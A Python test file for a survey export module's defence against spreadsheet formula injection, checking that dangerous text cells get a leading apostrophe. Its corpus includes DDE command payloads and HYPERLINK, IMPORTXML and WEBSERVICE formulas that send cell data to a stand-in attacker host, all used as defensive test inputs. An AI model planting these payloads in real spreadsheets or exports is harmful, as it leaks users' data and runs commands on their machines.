"""Formula neutralising of text cells (promise S11; bad-inputs.md rows 11–23)."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from survey.exports.cells import is_formula_like, neutralise, xml_safe

# bad-inputs.md rows 11–23, each as it could reach a text cell.
FORMULA_CORPUS = [
    "=1+1",  # 11
    '=HYPERLINK("http://attacker.example/?d="&A1,"click")',  # 12
    "=cmd|' /C calc'!A0",  # 13
    "@SUM(1+1)*cmd|' /C calc'!A0",  # 14
    "+1+cmd|' /C calc'!A0",  # 15
    "-2+3+cmd|' /C calc'!A0",  # 15
    '=IMPORTXML(CONCAT("http://attacker.example/?v=",A2),"//a")',  # 16
    '=WEBSERVICE("http://attacker.example/"&A1)',  # 17
    "\t=1+1",  # 18
    "\r=1+1",  # 18
    "\0=1+1",  # 18
    "  =1+1",  # 20
    "-5",  # 23, in a text column
]
# The same attacks in forms some spreadsheets fold to ASCII, or behind other white space.
VARIANTS = [
    "＝1+1",  # fullwidth equals sign
    "＋1+1",
    "－2+3",
    "＠SUM(1+1)",
    "\u3000=1+1",  # ideographic space
    "\u00a0\u00a0@SUM(1)",  # no-break spaces
    "\u200b=1+1",  # zero-width space
    "\n=1+1",
    " \t -1",
    "\u2212" + "5",  # minus sign
]
SAFE = ["1+1", "Hello =1+1", "Prishtinë", "Ђорђе", "", "   ", "'=1+1", "a@b.com", "(=1)", "😀=1"]


@pytest.mark.parametrize("text", FORMULA_CORPUS + VARIANTS)
def test_formula_like_text_gets_a_leading_apostrophe(text: str):
    assert is_formula_like(text)
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", SAFE)
def test_other_text_is_unchanged(text: str):
    assert not is_formula_like(text)
    assert neutralise(text) == text


@given(st.text(max_size=30))
def test_neutralised_text_never_starts_a_formula(text: str):
    result = neutralise(text)
    assert not is_formula_like(result)
    assert result.removeprefix("'") == text or result == text


def test_xml_safe_replaces_only_characters_xml_cannot_hold():
    assert xml_safe("a\0b\x1fc\td\ne\rf😀ђ") == "a\ufffdb\ufffdc\td\ne\rf😀ђ"
